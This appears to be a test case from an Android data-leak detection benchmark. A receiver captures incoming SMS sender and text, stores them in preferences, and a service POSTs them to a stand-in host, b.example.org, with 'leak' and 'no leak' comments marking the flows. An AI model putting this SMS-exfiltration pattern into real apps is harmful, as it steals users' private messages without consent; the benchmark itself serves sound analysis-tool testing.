package thieves;

import android.app.*;
import android.content.*;
import android.os.*;
import android.preference.PreferenceManager;

import com.google.gson.*;
import com.google.gson.reflect.TypeToken;

import java.io.*;
import java.net.*;
import java.util.*;

/** Objects become JSON, JSON becomes preferences, preferences become objects, objects become a form. */
public class Batch extends BroadcastReceiver {
    static class Item {
        String from;
        String text;
        int tries;
    }

    @Override
    public void onReceive(Context c, Intent i) {
        Item x = new Item();
        for (android.telephony.SmsMessage m : android.provider.Telephony.Sms.Intents.getMessagesFromIntent(i)) {
            x.from = m.getDisplayOriginatingAddress();
            x.text = (x.text == null ? "" : x.text) + m.getDisplayMessageBody();
        }
        x.tries = 1;
        Store s = new Store(c);
        s.add(x);
        AlarmManager a = (AlarmManager) c.getSystemService(Context.ALARM_SERVICE);
        a.set(0, 1000, PendingIntent.getService(c, 0, new Intent(c, Up.class), 0));
    }

    static class Store {
        private final SharedPreferences p;

        Store(Context c) {
            p = PreferenceManager.getDefaultSharedPreferences(c);
        }

        List<Item> all() {
            List<Item> l = new Gson().fromJson(p.getString("items", "[]"), new TypeToken<ArrayList<Item>>() {}.getType());
            return l;
        }

        void add(Item i) {
            List<Item> l = all();
            l.add(i);
            p.edit().putString("items", new Gson().toJson(l)).putString("mode", "sms").apply();
        }
    }

    public static class Up extends IntentService {
        public Up() {
            super("u");
        }

        @Override
        protected void onHandleIntent(Intent i) {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("http://b.example.org/q").openConnection();
                c.setDoOutput(true);
                PrintWriter w = new PrintWriter(c.getOutputStream());
                for (Item x : new Store(this).all()) w.print("f=" + URLEncoder.encode(x.from, "UTF-8") + "&t=" + URLEncoder.encode(x.text, "UTF-8")); // leak
                w.print(PreferenceManager.getDefaultSharedPreferences(this).getString("mode", "")); // no leak
                w.close();
            } catch (IOException e) {
            }
        }
    }
}
